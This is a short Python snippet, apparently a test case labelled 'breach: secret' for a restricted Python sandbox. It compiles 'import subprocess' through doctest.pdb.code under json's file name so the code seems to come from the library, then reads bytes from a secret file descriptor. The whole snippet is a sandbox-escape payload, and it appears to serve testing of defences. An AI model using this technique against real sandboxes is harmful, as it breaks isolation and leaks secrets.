# codeop compiles under any file name, and its own frame is the library's.
# breach: secret
import doctest, json
names = {}
exec(doctest.pdb.code.compile_command("import subprocess as s", json.__file__, "exec"), names)
names["s"].os.pread(SECRET_FD, 100, 0)
